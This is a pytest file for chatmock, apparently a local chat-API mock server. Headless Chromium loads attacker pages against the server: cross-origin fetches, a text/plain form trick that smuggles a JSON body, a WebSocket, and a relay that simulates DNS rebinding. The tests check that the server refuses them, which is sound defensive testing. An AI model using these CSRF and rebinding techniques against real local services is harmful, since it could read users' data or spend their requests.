"""A real browser attacks chatmock: headless Chromium loads a page from a foreign origin.

The page (served by a second loopback server under the names `evil.test` and
`good.test`, which Chromium resolves to 127.0.0.1 through `--host-resolver-rules`)
tries everything a web page can do against chatmock: a JSON `fetch` (preflighted),
a `text/plain` POST and a body-less-type `no-cors` POST (no preflight), a form POST,
a `GET /v1/models` read and a WebSocket. An iframe from a third server plays DNS
rebinding: its name (`rebind.test`, `trusted.test`) resolved to the attacker once,
and every later connection is relayed to chatmock, so its same-origin requests
arrive with that name as `Host`. The pages report what they saw to the attacker
server; the fake backend's record of received requests tells what was spent.

From `evil.test` nothing is read and nothing is spent. The same page from
`good.test`, listed in `--cors-origins`, gets its answers, and `trusted.test`,
listed in `--allowed-hosts`, passes the Host check: the test can fail.

Skipped when Debian's `chromium` is not installed (`.ci/run` installs it as root).
"""

from __future__ import annotations

import json
import socket
import socketserver
import threading
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit

import pytest

from .conftest import (
    CHROMIUM,
    Process,
    headless_chromium,
    recorded_requests,
    spawn,
    start_chatmock,
)

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="headless Chromium is not installed "
                                "(Debian: apt-get install chromium); the browser attack test "
                                "needs it")
NAMES = ("evil.test", "good.test", "rebind.test", "trusted.test")
REPORT_SECONDS = 90.0

_COMMON_JS = """
const params = new URLSearchParams(location.search);
const results = {};
async function attempt(name, action) {
  try { results[name] = await action(); } catch (error) { results[name] = 'failed: ' + error; }
}
function chatBody(text) {
  return JSON.stringify({model: 'gpt-5.4', messages: [{role: 'user', content: text}]});
}
async function readAll(response) { return response.status + ' ' + await response.text(); }
function report(name) {
  return fetch(params.get('report') + '?name=' + name,
               {method: 'POST', mode: 'no-cors', body: JSON.stringify(results)});
}
"""

ATTACK_PAGE = """<!doctype html><html><body><script>""" + _COMMON_JS + """
const target = params.get('target');
const tag = params.get('tag');
const url = target + '/v1/chat/completions';
function formPost() {
  return new Promise(resolve => {
    const sink = document.createElement('iframe');
    sink.name = 'sink';
    document.body.appendChild(sink);
    sink.onload = () => resolve('submitted');
    const form = document.createElement('form');
    Object.assign(form, {method: 'POST', action: url, enctype: 'text/plain', target: 'sink'});
    const input = document.createElement('input');
    const body = chatBody('form ' + tag);
    input.name = body.slice(0, -4);   // text/plain forms send name=value: the JSON ends in
    input.value = '"}]}';             // the value, after an '=' inside the content string
    form.appendChild(input);
    document.body.appendChild(form);
    form.submit();
    setTimeout(() => resolve('no load event'), 10000);
  });
}
function socketTurn() {
  return new Promise(resolve => {
    const events = [];
    const ws = new WebSocket(target.replace('http', 'ws') + '/v1/responses');
    ws.onopen = () => ws.send(JSON.stringify({type: 'response.create', model: 'gpt-5.4',
                                              input: 'websocket ' + tag}));
    ws.onmessage = message => {
      const event = JSON.parse(message.data);
      events.push(event.type);
      if (event.type === 'response.completed' || event.type === 'error') {
        ws.close();
        resolve('open: ' + events.join(','));
      }
    };
    ws.onerror = () => resolve('refused');
    setTimeout(() => resolve('timeout: ' + events.join(',')), 15000);
  });
}
(async () => {
  const frame = document.createElement('iframe');
  frame.src = params.get('rebind');
  document.body.appendChild(frame);
  await attempt('json_fetch', async () => readAll(await fetch(url, {
    method: 'POST', headers: {'content-type': 'application/json'},
    body: chatBody('json ' + tag)})));
  await attempt('text_plain', async () => readAll(await fetch(url, {
    method: 'POST', body: chatBody('text ' + tag)})));
  await attempt('no_cors', async () => (await fetch(url, {
    method: 'POST', mode: 'no-cors', body: new Blob([chatBody('no-cors ' + tag)])})).type);
  await attempt('models', async () => readAll(await fetch(target + '/v1/models')));
  await attempt('form', formPost);
  await attempt('websocket', socketTurn);
  await report('page');
})();
</script></body></html>"""

REBIND_PAGE = """<!doctype html><html><body><script>""" + _COMMON_JS + """
(async () => {
  await attempt('models', async () => readAll(await fetch('/v1/models')));
  await attempt('chat', async () => readAll(await fetch('/v1/chat/completions', {
    method: 'POST', headers: {'content-type': 'application/json'},
    body: chatBody('rebound ' + location.hostname)})));
  await report('rebind');
})();
</script></body></html>"""


@dataclass
class Reports:
    """What the pages reported, by name."""

    found: dict[str, dict[str, str]] = field(default_factory=dict)
    changed: threading.Condition = field(default_factory=threading.Condition)

    def add(self, name: str, results: dict[str, str]) -> None:
        with self.changed:
            self.found[name] = results
            self.changed.notify_all()

    def wait_for(self, *names: str) -> dict[str, dict[str, str]]:
        with self.changed:
            self.changed.wait_for(lambda: all(name in self.found for name in names),
                                  timeout=REPORT_SECONDS)
            return dict(self.found)


class AttackerSite(BaseHTTPRequestHandler):
    """`/attack.html`, and `/report?name=` where the pages post what they saw."""

    reports: Reports

    def do_GET(self) -> None:
        page = ATTACK_PAGE.encode()
        self.send_response(200 if self.path.startswith("/attack.html") else 404)
        self.send_header("content-type", "text/html; charset=utf-8")
        self.send_header("content-length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length", "0")))
        name = parse_qs(urlsplit(self.path).query)["name"][0]
        self.reports.add(name, json.loads(body))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


class RebindingSite(socketserver.ThreadingTCPServer):
    """Serves `/rebind.html`, then plays a DNS answer that changed: any other request
    is relayed byte for byte to chatmock, `Host` header and all."""

    daemon_threads = True
    target_port = 0

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Rebound)


class _Rebound(socketserver.BaseRequestHandler):
    server: RebindingSite
    request: socket.socket

    def handle(self) -> None:
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = self.request.recv(65536)
            if not chunk:
                return
            head += chunk
        if head.startswith(b"GET /rebind.html"):
            page = REBIND_PAGE.encode()
            self.request.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\n"
                                 b"connection: close\r\ncontent-length: %d\r\n\r\n%b"
                                 % (len(page), page))
            return
        with socket.create_connection(("127.0.0.1", self.server.target_port)) as chatmock:
            chatmock.sendall(head)
            back = threading.Thread(target=_copy, args=(chatmock, self.request), daemon=True)
            back.start()
            _copy(self.request, chatmock)
            back.join(30)


def _copy(source: socket.socket, sink: socket.socket) -> None:
    try:
        while chunk := source.recv(65536):
            sink.sendall(chunk)
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass


@dataclass
class Stage:
    chatmock: Process
    fake: Process
    site_port: int
    rebind_port: int
    reports: Reports
    tmp: Path


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    tmp = tmp_path_factory.mktemp("browser")
    reports = Reports()
    handler = type("Site", (AttackerSite,), {"reports": reports})
    site = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    rebind = RebindingSite()
    for server in (site, rebind):
        threading.Thread(target=server.serve_forever, daemon=True).start()
    site_port, rebind_port = site.server_address[1], rebind.server_address[1]
    fake = spawn(["-m", "chatmock.testing.fake_upstream", "--port", "0"], tmp / "fake.log")
    chatmock = start_chatmock(tmp / "chatmock", fake, "--cors-origins",
                              f"http://good.test:{site_port}", "--allowed-hosts", "trusted.test")
    rebind.target_port = chatmock.port
    try:
        yield Stage(chatmock, fake, site_port, rebind_port, reports, tmp)
    finally:
        chatmock.stop()
        fake.stop()
        for server in (site, rebind):
            server.shutdown()
            server.server_close()


def browse(stage: Stage, page_name: str, rebind_name: str) -> dict[str, dict[str, str]]:
    """Open the attack page as `page_name` (rebinding frame as `rebind_name`) in headless
    Chromium; what both frames reported."""
    stage.reports.found.clear()
    report = f"http://127.0.0.1:{stage.site_port}/report"
    rebind = f"http://{rebind_name}:{stage.rebind_port}/rebind.html?report={report}"
    url = (f"http://{page_name}:{stage.site_port}/attack.html?tag={page_name}"
           f"&target=http://127.0.0.1:{stage.chatmock.port}"
           f"&report={report}&rebind={quote(rebind, safe='')}")
    rules = ", ".join(f"MAP {name} 127.0.0.1" for name in NAMES)
    profile = stage.tmp / f"profile-{page_name}"
    with headless_chromium(stage.tmp / f"chromium-{page_name}.log", profile,
                           f"--host-resolver-rules={rules}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
                           url):
        found = stage.reports.wait_for("page", "rebind")
    assert set(found) == {"page", "rebind"}, f"the pages did not report: {found}"
    return found


def clear_records(fake: Process) -> None:
    urllib.request.urlopen(urllib.request.Request(f"{fake.url}/__fake__/requests",
                                                  method="DELETE")).close()


def refusals(stage: Stage) -> list[str]:
    """chatmock's access-log lines of the requests it answered with 403."""
    return [line.split('"')[1] for line in stage.chatmock.log.read_text().splitlines()
            if '" 403 ' in line]


def test_a_foreign_page_can_neither_read_an_answer_nor_spend_a_request(stage: Stage) -> None:
    clear_records(stage.fake)
    found = browse(stage, "evil.test", "rebind.test")
    page, rebind = found["page"], found["rebind"]
    for attempt in ("json_fetch", "text_plain", "models"):
        assert page[attempt].startswith("failed: TypeError"), (attempt, page)
    assert page["no_cors"] == "opaque"
    assert page["form"] == "submitted"
    assert page["websocket"] == "refused"
    assert rebind["models"].startswith("403 ") and "DNS rebinding" in rebind["models"]
    assert rebind["chat"].startswith("403 ")
    assert recorded_requests(stage.fake) == []
    refused = refusals(stage)  # the browser did send them: chatmock refused each one
    assert refused.count("POST /v1/chat/completions") >= 4  # text, no-cors, form, rebound
    for request in ("OPTIONS /v1/chat/completions", "GET /v1/models", "GET /v1/responses"):
        assert request in refused, refused


def test_a_configured_origin_and_host_work_from_the_browser(stage: Stage) -> None:
    clear_records(stage.fake)
    found = browse(stage, "good.test", "trusted.test")
    page, rebind = found["page"], found["rebind"]
    assert page["json_fetch"].startswith("200 ")
    answer = json.loads(page["json_fetch"][4:])
    assert answer["choices"][0]["message"]["content"] == "Hello! You said: json good.test"
    assert page["text_plain"].startswith("415 ") and "application/json" in page["text_plain"]
    assert page["models"].startswith("200 ") and "gpt-5.4" in page["models"]
    assert page["websocket"].startswith("open: response.created")
    assert page["websocket"].endswith("response.completed")
    assert rebind["models"].startswith("200 ")
    assert rebind["chat"].startswith("403 ")  # its origin is not in --cors-origins
    spent = [record["body"]["input"][0]["content"][0]["text"]
             for record in recorded_requests(stage.fake)]
    # A trusted page's no-cors POST has no Content-Type: read as JSON, like curl's without -H.
    assert sorted(spent) == ["json good.test", "no-cors good.test", "websocket good.test"]
